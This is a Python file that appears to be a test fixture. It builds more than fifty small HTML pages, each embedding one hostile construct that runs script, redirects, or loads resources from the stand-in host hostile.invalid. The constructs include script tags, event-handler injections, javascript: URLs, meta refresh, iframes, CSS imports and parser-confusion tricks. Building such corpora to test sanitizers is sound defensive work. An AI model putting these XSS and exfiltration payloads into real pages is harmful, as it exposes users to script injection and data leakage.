"""Pages that try to act when they are shown: to ask for something, to run, to break out of their frame."""

from __future__ import annotations

OUT = "http://hostile.invalid"
_PARTS = (
    '<script>fetch("{out}/{n}")</script>', '<script src="{out}/{n}.js"></script>', '<img src="{out}/{n}.png">',
    '<img src=x onerror="location=\'{out}/{n}\'">', '<link rel="stylesheet" href="{out}/{n}.css">', '<link rel="prefetch" href="{out}/{n}">',
    '<link rel="preconnect" href="{out}">', '<link rel="dns-prefetch" href="//hostile.invalid">', '<meta http-equiv="refresh" content="0;url={out}/{n}">',
    '<base href="{out}/"><a href="{n}">x</a>', '<iframe src="{out}/{n}"></iframe>', '<iframe srcdoc="<script>parent.x=1</script>"></iframe>',
    '<object data="{out}/{n}"></object>', '<embed src="{out}/{n}">', '<style>@import "{out}/{n}.css"; body{{background:url({out}/{n})}}</style>',
    '<p style="background:url({out}/{n})">x</p>', '<table background="{out}/{n}"><tr><td background="{out}/{n}">x</table>',
    '<video src="{out}/{n}" poster="{out}/{n}p" autoplay></video>', '<audio src="{out}/{n}" autoplay></audio>', '<source srcset="{out}/{n}">',
    '<picture><source srcset="{out}/{n} 2x"><img srcset="{out}/{n} 1x"></picture>', '<input type="image" src="{out}/{n}" autofocus onfocus="location=\'{out}\'">',
    '<form action="{out}/{n}"><button autofocus>x</button></form><script>document.forms[0].submit()</script>',
    '<svg onload="location=\'{out}/{n}\'"><image href="{out}/{n}"/><use xlink:href="{out}/{n}#a"/></svg>',
    '<svg><style>@import url({out}/{n})</style><foreignObject><img src="{out}/{n}"></foreignObject></svg>',
    '<math><mtext><img src="{out}/{n}"></mtext></math>', '<noscript><img src="{out}/{n}"></noscript>', '<noscript><p title="</noscript><img src={out}/{n}>">',
    '<template><img src="{out}/{n}"></template>', '<xmp><img src="{out}/{n}"></xmp><plaintext><img src="{out}/{n}">', '<!--><img src="{out}/{n}">-->',
    '<![CDATA[<img src="{out}/{n}">]]>', '<title></title><img src="{out}/{n}"></title>', '<textarea></textarea><img src="{out}/{n}"></textarea>',
    '<a href="javascript:location=\'{out}/{n}\'" autofocus>x</a>', '<a href="{out}/{n}" ping="{out}/ping">x</a>', '<body onload="location=\'{out}/{n}\'">',
    '<p onmouseover="x()" id="x" tabindex=1 onfocus="location=\'{out}/{n}\'" autofocus>x</p>', '<details open ontoggle="location=\'{out}/{n}\'">x</details>',
    '<frameset><frame src="{out}/{n}"></frameset>', '<applet archive="{out}/{n}"></applet>', '<bgsound src="{out}/{n}">', '<keygen autofocus>',
    '<marquee onstart="location=\'{out}/{n}\'">x</marquee>', '<isindex action="{out}/{n}">', '<portal src="{out}/{n}"></portal>',
    '<x-y onclick=1><script>top.location="{out}/{n}"</script></x-y>', '<font face="\'><img src={out}/{n}>">x</font>',
    '<p title="&lt;img src={out}/{n}&gt;">&lt;img src={out}/{n}&gt;</p>', "<p dir='\"><img src={out}/{n}>'>x</p>", '<listing><img src="{out}/{n}"></listing>',
    '<html manifest="{out}/{n}">', "<img src=`{out}/{n}`>", '<div\x00 style=x><scr\x00ipt>location="{out}/{n}"</scr\x00ipt>', "\ufeff<ſcript>x</ſcript><img/src={out}/{n}/onerror=x>",
    '<link rel="preload" as="image" href="{out}/{n}" imagesrcset="{out}/{n}b 2x">', '<link rel="modulepreload" href="{out}/{n}.js">',
    '<link rel="manifest" href="{out}/{n}.json"><link rel="icon" href="{out}/{n}.ico">', '<body background="{out}/{n}" style="background:image-set(url({out}/{n}) 1x)">',
    '<form id="f"><button formaction="{out}/{n}" autofocus>x</button></form><input form="f" formaction="javascript:x()">', '<video><track default src="{out}/{n}.vtt"></video>',
    '<svg><a><animate attributeName="href" values="{out}/{n}"/><text>x</text></a><set attributeName="onload" to="x()"/></svg>', '<image src="{out}/{n}" href="{out}/{n}">',
    '<div><template shadowrootmode="open"><img src="{out}/{n}"><style>:host{{background:url({out}/{n})}}</style></template></div>',
    '<script type="speculationrules">{{"prerender":[{{"urls":["{out}/{n}"]}}]}}</script>', '<meta http-equiv="Content-Security-Policy" content="default-src x; report-uri {out}/{n}">',
    '<meta http-equiv="x-dns-prefetch-control" content="on"><a href="//hostile.invalid/{n}">x</a>', '<iframe src="data:text/html,<img src={out}/{n}>"></iframe>',
    '<a href="\x01java\nscript:location=\'{out}/{n}\'">x</a>', '<table><caption><img src="{out}/{n}" lowsrc="{out}/{n}" dynsrc="{out}/{n}"></caption></table>',
)  # fmt: skip

PAGES = [
    f"<html><body><h1>敌意{n}</h1>{part.format(out=OUT, n=n)}<p>末尾{n}</p></body></html>"
    for n, part in enumerate(_PARTS)
]
"""More than fifty."""
